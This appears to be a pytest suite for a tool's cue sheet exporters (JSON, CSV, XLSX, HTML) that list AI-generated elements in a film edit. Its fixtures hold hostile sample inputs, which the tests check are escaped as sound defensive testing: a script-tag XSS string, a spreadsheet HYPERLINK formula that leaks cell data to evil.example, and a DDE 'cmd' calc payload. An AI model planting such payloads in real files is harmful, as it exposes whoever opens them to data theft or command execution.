"""The cue sheet writers: each format read back by an independent reader, the JSON format
against its golden file, and the guards (escaping, formula injection) that outside text needs."""

from __future__ import annotations

import csv
import io
import json
import os
from html.parser import HTMLParser
from pathlib import Path

import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]

from clearance.editorial.cuesheet import (
    FORMAT,
    CueRow,
    CueSheet,
    EditInfo,
    MissingMedia,
    StripEvent,
)
from clearance.reports import cuesheet
from clearance.reports.cuesheet import csv_writer, html_writer, json_writer, xlsx_writer
from clearance.reports.cuesheet.columns import COLUMNS, HEADERS, STATUS_COLOURS

GOLDEN = Path(__file__).parent / "golden" / "cuesheet"
SCRIPT = '<script>alert("x")</script>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
NAME = "Ava Reyes — São Paulo"


def sample() -> CueSheet:
    """A hand-built sheet: one row per status, hostile text, non-ASCII, one missing event."""
    rows = [
        CueRow(
            event=1,
            track="V1",
            record_in="01:00:00:00",
            record_out="01:00:04:00",
            duration="00:00:04:00",
            clip="harbor_plate_v3",
            reel="A001",
            file="/media/vfx/harbor_plate_v3.png",
            found_by="name",
            sha256="a" * 64,
            verdict="ai-generated",
            signals=[
                "c2pa.generator: Firefly",
                "c2pa.digital_source_type: trainedAlgorithmicMedia",
            ],
            tool="Adobe Firefly",
            prompt=f"harbor at dusk {SCRIPT}",
            use_case="UC-1",
            use_case_title="Harbor skyline extension",
            description="Extend the skyline behind the practical set.",
            source_material="studio-owned plates",
            copyright_status="legal-review recorded",
            approvals=["EV-1 (memo 12)"],
            clearances=["legal-review: EV-2"],
            status="cleared",
            status_rule="Q4",
            because="Every obligation is recorded.",
        ),
        CueRow(
            event=2,
            track="V2",
            record_in="01:00:04:00",
            record_out="01:00:06:12",
            duration="00:00:02:12",
            clip=FORMULA,
            verdict="ai-composite",
            tool="ComfyUI",
            prompt="+cmd|' /C calc'!A0",
            use_case="UC-11",
            use_case_title="Crowd double",
            source_material=f"performers: {NAME}",
            copyright_status="rights-clearance open",
            consents=[f"EV-3 ({NAME})"],
            open_obligations=["talent-consent", "rights-clearance"],
            next_actor="legal, production",
            status="obligations-open",
            status_rule="Q3",
            speed=-1.0,
            transition="D 012",
        ),
        CueRow(
            event=3,
            track="V1",
            record_in="01:00:06:12",
            record_out="01:00:07:00",
            duration="00:00:00:12",
            clip="@previs_frame",
            verdict="ai-generated",
            use_case="UC-6",
            status="temp-material",
            status_rule="Q2",
        ),
        CueRow(
            event=5,
            track="V1",
            record_in="01:00:08:00",
            record_out="01:00:09:00",
            duration="00:00:01:00",
            clip="mystery.png",
            verdict="ai-generated",
            prompt="line one\nline two",
            status="undeclared",
            status_rule="Q1",
            because="Nobody declared it.",
        ),
    ]
    missing = [
        MissingMedia(
            event=4,
            track="V1",
            record_in="01:00:07:00",
            record_out="01:00:08:00",
            clip="-lost_clip",
            reel="B002",
            problem="no file named -lost_clip under /media",
        )
    ]
    timeline = [
        StripEvent(event=r.event, track=r.track, start=0, frames=24, status=r.status) for r in rows
    ]
    return CueSheet(
        generated_at="2025-05-01T12:00:00+00:00",
        production=f"Neon Harbor — {NAME}",
        packs=["ai-provenance@1.0.0", "cue-status@1.0.0"],
        edit=EditInfo(
            name="Reel 1 lock",
            path="/edits/reel1.edl",
            adapter="cmx3600",
            rate="24",
            start="01:00:00:00",
            end="01:00:09:00",
            duration="00:00:09:00",
            frames=216,
            tracks=["V1", "V2"],
        ),
        events=5,
        resolved=4,
        summary={
            "undeclared": 1,
            "temp-material": 1,
            "obligations-open": 1,
            "cleared": 1,
            "missing-media": 1,
        },
        rows=rows,
        missing=missing,
        timeline=timeline,
    )


def empty() -> CueSheet:
    sheet = sample()
    return sheet.model_copy(update={"rows": [], "missing": [], "timeline": []})


def render(write: cuesheet.Writer, sheet: CueSheet) -> bytes:
    out = io.BytesIO()
    write(sheet, out)
    assert not out.closed  # writers leave the caller's stream open
    return out.getvalue()


# The contract ---------------------------------------------------------------------------------


def test_every_cue_row_field_has_a_column() -> None:
    shown = {name for column in COLUMNS for name in column.fields}
    assert shown == set(CueRow.model_fields), "a CueRow field without a column is dropped"
    assert len(set(HEADERS)) == len(HEADERS)


def test_columns_start_with_the_apa_cue_sheet() -> None:
    assert HEADERS[:10] == (
        "Event #",
        "Track",
        "Record In",
        "Record Out",
        "Duration",
        "Description",
        "Software / Tool",
        "Prompt",
        "Underlying Source Material",
        "Copyright Status",
    )


@pytest.mark.parametrize(
    ("name", "fmt"),
    [
        ("cues.json", "json"),
        ("cues.csv", "csv"),
        ("cues.xlsx", "xlsx"),
        ("cues.html", "html"),
        ("cues.htm", "html"),
        ("CUES.XLSX", "xlsx"),
        ("reel.1.cues.csv", "csv"),
    ],
)
def test_format_is_found_by_suffix(name: str, fmt: str) -> None:
    assert cuesheet.format_for(Path(name)) == fmt
    assert fmt in cuesheet.FORMATS


@pytest.mark.parametrize("name", ["cues.pdf", "cues", "cues.xls"])
def test_unknown_suffix_is_refused_clearly(name: str) -> None:
    with pytest.raises(ValueError, match=r"cue sheet format .*\.json.*\.csv.*\.xlsx.*\.html"):
        cuesheet.format_for(Path(name))


def test_write_dispatches_and_refuses_unknown_formats() -> None:
    for fmt in ("json", "csv", "html"):  # (XLSX embeds its creation time)
        out = io.BytesIO()
        cuesheet.write(sample(), out, fmt)
        assert out.getvalue() == render(cuesheet.FORMATS[fmt], sample())
    with pytest.raises(ValueError, match="unknown cue sheet format 'pdf'"):
        cuesheet.write(sample(), io.BytesIO(), "pdf")


@pytest.mark.parametrize("fmt", sorted(cuesheet.FORMATS))
def test_an_empty_cut_renders_in_every_format(fmt: str) -> None:
    assert render(cuesheet.FORMATS[fmt], empty())


# JSON -----------------------------------------------------------------------------------------


def test_json_matches_the_golden_file() -> None:
    actual = render(json_writer.write, sample())
    path = GOLDEN / "sample.json"
    if os.environ.get("CLEARANCE_UPDATE_GOLDEN") == "1":
        path.write_bytes(actual)
    assert actual == path.read_bytes()


def test_json_round_trips_to_the_model() -> None:
    data = render(json_writer.write, sample())
    assert json.loads(data)["format"] == FORMAT == "clearance.cuesheet/1"
    assert NAME.encode() in data  # UTF-8, not \u escapes
    assert CueSheet.model_validate_json(data) == sample()


# CSV ------------------------------------------------------------------------------------------


def read_csv(data: bytes) -> list[list[str]]:
    assert not data.startswith(b"\xef\xbb\xbf")  # plain UTF-8, no BOM
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_csv_is_one_table_with_the_shared_columns() -> None:
    data = render(csv_writer.write, sample())
    assert data.count(b"\r\n") == len(sample().rows) + 1  # the prompt's \n stays inside quotes
    header, *rows = read_csv(data)
    assert tuple(header) == HEADERS
    assert [r[0] for r in rows] == ["1", "2", "3", "5"]
    first = dict(zip(header, rows[0], strict=True))
    assert first["Description"] == (
        "Harbor skyline extension — Extend the skyline behind the practical set."
    )
    assert first["Signals"] == (
        "c2pa.generator: Firefly; c2pa.digital_source_type: trainedAlgorithmicMedia"
    )
    assert first["Prompt"] == f"harbor at dusk {SCRIPT}"
    assert first["Record In"] == "01:00:00:00"
    last = dict(zip(header, rows[-1], strict=True))
    assert last["Prompt"] == "line one\nline two"  # quoted, not split into rows


def test_csv_defuses_formulas_in_text_cells_only() -> None:
    header, *rows = read_csv(render(csv_writer.write, sample()))
    second = dict(zip(header, rows[1], strict=True))
    assert second["Clip"] == "'" + FORMULA
    assert second["Prompt"] == "'+cmd|' /C calc'!A0"
    assert second["Underlying Source Material"] == f"performers: {NAME}"
    assert second["Speed"] == "-1.0"  # a number, not text: left alone
    third = dict(zip(header, rows[2], strict=True))
    assert third["Clip"] == "'@previs_frame"


# XLSX -----------------------------------------------------------------------------------------


def test_xlsx_reads_back_with_title_block_table_and_colours(tmp_path: Path) -> None:
    path = tmp_path / "cues.xlsx"
    with path.open("wb") as out:
        cuesheet.write(sample(), out, cuesheet.format_for(path))
    book = load_workbook(path)
    assert book.sheetnames == ["GenAI cue sheet", "Missing media", "Summary"]

    ws = book["GenAI cue sheet"]
    assert ws["A1"].value == "GenAI cue sheet"
    block = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=2).value for r in range(2, 11)}
    assert block["Production"] == f"Neon Harbor — {NAME}"
    assert block["Edit"] == "Reel 1 lock"
    assert block["Packs"] == "ai-provenance@1.0.0; cue-status@1.0.0"
    header = next(r for r in range(1, 20) if ws.cell(row=r, column=1).value == "Event #")
    headers = tuple(ws.cell(row=header, column=c).value for c in range(1, len(COLUMNS) + 1))
    assert headers == HEADERS
    assert ws.cell(row=header, column=1).font.bold
    assert ws.freeze_panes == f"A{header + 1}"
    assert ws.auto_filter.ref == f"A{header}:AF{header + 4}"

    col = {h: i for i, h in enumerate(HEADERS, start=1)}
    rows = range(header + 1, header + 5)
    assert [ws.cell(row=r, column=col["Event #"]).value for r in rows] == [1, 2, 3, 5]
    assert ws.cell(row=header + 2, column=col["Speed"]).value == -1.0
    status_fills = {
        ws.cell(row=r, column=col["Status"]).value: ws.cell(
            row=r, column=col["Status"]
        ).fill.fgColor.rgb[-6:]
        for r in rows
    }
    assert status_fills == {s: STATUS_COLOURS[s] for s in status_fills}
    assert set(status_fills) == {"cleared", "obligations-open", "temp-material", "undeclared"}
    assert ws.cell(row=header + 1, column=col["Prompt"]).alignment.wrap_text

    formula = ws.cell(row=header + 2, column=col["Clip"])
    assert formula.value == FORMULA  # kept as written, but as text:
    assert formula.data_type == "s"
    assert formula.quotePrefix
    assert ws.cell(row=header + 3, column=col["Clip"]).quotePrefix  # "@previs_frame"
    assert not ws.cell(row=header + 1, column=col["Clip"]).quotePrefix

    missing = book["Missing media"]
    assert [c.value for c in missing[1]] == [
        "Event #",
        "Track",
        "Record In",
        "Record Out",
        "Clip",
        "Reel",
        "Speed",
        "Transition",
        "Problem",
        "Edit Warnings",
    ]
    assert [c.value for c in missing[2]][:6] == [
        4,
        "V1",
        "01:00:07:00",
        "01:00:08:00",
        "-lost_clip",
        "B002",
    ]
    assert missing["E2"].quotePrefix

    summary = book["Summary"]
    counts = {r[0].value: r[1].value for r in summary.iter_rows(min_row=2) if r[0].value}
    assert counts == {**sample().summary, "GenAI elements": 4, "Events": 5, "Resolved": 4}


def test_xlsx_drops_characters_the_format_cannot_hold() -> None:
    sheet = sample()
    sheet.rows[0].prompt = "bell\x07 and tab\tkept"
    book = load_workbook(io.BytesIO(render(xlsx_writer.write, sheet)))
    prompts = [c.value for c in book["GenAI cue sheet"]["H"]]
    assert "bell and tab\tkept" in prompts


# HTML -----------------------------------------------------------------------------------------


class Page(HTMLParser):
    """Collects what a browser would see: tags, text, and each table's body rows."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []
        self.body_rows: dict[str, int] = {}
        self.table = ""
        self.in_body = False
        self.classes: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        attr = dict(attrs)
        if attr.get("class"):
            self.classes.append(attr["class"] or "")
        if tag == "table":
            self.table = attr.get("class") or ""
            self.body_rows[self.table] = 0
        elif tag == "tbody":
            self.in_body = True
        elif tag == "tr" and self.in_body:
            self.body_rows[self.table] += 1

    def handle_endtag(self, tag: str) -> None:
        if tag == "tbody":
            self.in_body = False

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse(data: bytes) -> Page:
    page = Page()
    page.feed(data.decode("utf-8"))
    page.close()
    return page


def test_html_is_escaped_and_self_contained() -> None:
    data = render(html_writer.write, sample())
    page = parse(data)
    assert "script" not in page.tags
    assert not {"link", "img", "iframe", "object", "embed"} & set(page.tags)
    assert b"http" not in data.replace(b"http://evil.example", b"")  # fetches nothing
    text = "".join(page.text)
    assert f"harbor at dusk {SCRIPT}" in text  # shown as text, not run
    assert FORMULA in text  # HTML needs no formula guard: shown as written
    assert NAME in text


def test_html_has_the_tables_summary_and_print_css() -> None:
    sheet = sample()
    data = render(html_writer.write, sheet)
    page = parse(data)
    assert page.body_rows == {"cues": len(sheet.rows), "missing": len(sheet.missing)}
    assert [f"status-{r.status}" for r in sheet.rows] == [
        c for c in page.classes if c.startswith("status-")
    ][-len(sheet.rows) :]
    text = "".join(page.text)
    for header in HEADERS:
        assert header in text
    assert "undeclared: 1" in text
    assert "-lost_clip" in text
    css = data.decode("utf-8")
    assert "@page { size: A4 landscape;" in css
    assert "print-color-adjust: exact" in css
    assert "thead { display: table-header-group; }" in css


def test_html_says_so_when_nothing_is_missing() -> None:
    page = parse(render(html_writer.write, empty()))
    text = "".join(page.text)
    assert "No GenAI elements in this cut." in text
    assert "every event's media was found" in text
    assert "table" not in page.tags
